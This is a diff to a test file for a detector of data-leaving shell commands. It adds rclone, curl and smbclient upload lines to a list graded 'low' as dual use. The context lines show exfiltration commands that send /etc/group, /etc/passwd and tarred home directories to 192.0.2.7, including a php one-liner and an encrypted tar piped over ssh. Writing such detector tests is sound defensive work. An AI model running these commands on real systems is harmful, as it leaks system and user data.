@@ -24,6 +24,8 @@ describe("data that leaves by a command", () => {
     'php -r \'$d=file_get_contents("/etc/group");file_get_contents("http://192.0.2.7/?q=".$d);\'',
     "ab -p /etc/passwd http://192.0.2.7/",
     "rclone copy /etc away:x --config r.conf",
+    "rclone copy /var/log/app mega:x",
+    "rclone move /srv/data away:x",
     "socat - TCP:192.0.2.7:80 < /etc/group",
     "tar cz /home/* | openssl des3 -k x | ssh eve@192.0.2.7 'cat > h'",
     "python3 -c 'import http.server as h; h.HTTPServer((\"\", 80), h.SimpleHTTPRequestHandler).serve_forever()'",
@@ -36,7 +38,11 @@ describe("data that leaves by a command", () => {
     "rsync -a /srv/data backup@nas.example:/b",
     "curl -T app.deb https://packages.example/upload/",
     "aws s3 sync ./dist s3://site",
+    "rclone sync /srv/data away:x",
+    "rclone copy /srv/app/backups away:x",
     "curl -T build.tgz http://10.0.0.5/",
+    "curl -F f=@minutes.pdf https://intranet.firm.example/up",
+    "smbclient //fileserver/s -c 'put minutes.pdf'",
   ])("%s is dual use", (line) => {
     expect(grade(run(possibleDataLossCommand, [script(line)]))).toEqual(["low"]);
   });
